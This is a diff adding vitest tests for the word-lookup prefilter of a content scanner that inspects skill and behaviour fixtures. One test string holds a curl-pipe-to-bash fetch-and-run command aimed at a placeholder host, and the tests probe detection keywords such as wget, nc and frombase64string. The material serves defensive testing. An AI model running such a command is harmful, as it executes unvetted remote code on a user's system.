@@ -6,7 +6,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { CONTENT_PATTERNS, scanContent } from '../../src/inspect/analyzers/patterns.js';
-import { compileOnFirstUse } from '../../src/inspect/analyzers/regex-tier.js';
+import { compileOnFirstUse, containsWord, lowerCased } from '../../src/inspect/analyzers/regex-tier.js';
 import { SignalSink } from '../../src/inspect/signals.js';
 
 /** Counts the runs of a pattern (test() goes through exec). */
@@ -104,5 +104,43 @@ describe('content pattern needles', () => {
     const short = ids(line);
     expect(short.length).toBeGreaterThan(2);
     expect(ids(line + pad)).toEqual(short);
+  });
+});
+
+describe('containsWord (the prefilters\' word lookup through a three-character index)', () => {
+  it('answers as includes: absent words, words at the edges, words shorter than three characters, a new text', () => {
+    const text = lowerCased('# Wetter 🌦️\nRun CURL -fsSL https://example.invalid | bash; then chmod +x tool');
+    for (const w of ['curl', '# w', 'tool', 'chmod +x', 'bash;', 'sh', 'nc', 'x', '🌦️', 'wget', 'curlx', 'tools', 'ba sh', 'frombase64string'])
+      expect([w, containsWord(text, w)]).toEqual([w, text.includes(w)]);
+    expect(containsWord('ab', 'abc')).toBe(false);
+    expect(containsWord('ab', 'ab')).toBe(true);
+    // The index is the last text's: another text is indexed anew.
+    expect(containsWord('wget x', 'curl')).toBe(false);
+    expect(containsWord('x curl', 'curl')).toBe(true);
+    expect(containsWord(text, 'curl')).toBe(true);
+  });
+
+  it('agrees with includes on every word of the fixtures and the corpus against each other text', () => {
+    const repo = path.resolve(import.meta.dirname, '../..');
+    const files = ['fixtures/skills', 'fixtures/behaviour'].map((d) => path.join(repo, d)).filter((d) => fs.existsSync(d));
+    const texts: string[] = [];
+    const walk = (d: string): void => {
+      for (const e of fs.readdirSync(d, { withFileTypes: true })) {
+        const p = path.join(d, e.name);
+        if (e.isDirectory()) walk(p);
+        else if (e.isFile() && /\.(?:md|sh|py|js)$/.test(e.name)) texts.push(fs.readFileSync(p, 'utf8').toLowerCase());
+      }
+    };
+    for (const f of files) walk(f);
+    expect(texts.length).toBeGreaterThan(20);
+    const words = [...new Set(texts.slice(0, 10).flatMap((t) => t.split(/\s+/)).filter((w) => w.length > 0 && w.length < 20))];
+    let found = 0;
+    for (const t of texts.slice(0, 40))
+      for (const w of words) {
+        const want = t.includes(w);
+        if (want) found++;
+        if (containsWord(t, w) !== want) throw new Error(`containsWord(${JSON.stringify(w)}) differs from includes`);
+      }
+    expect(found).toBeGreaterThan(100);
   });
 });
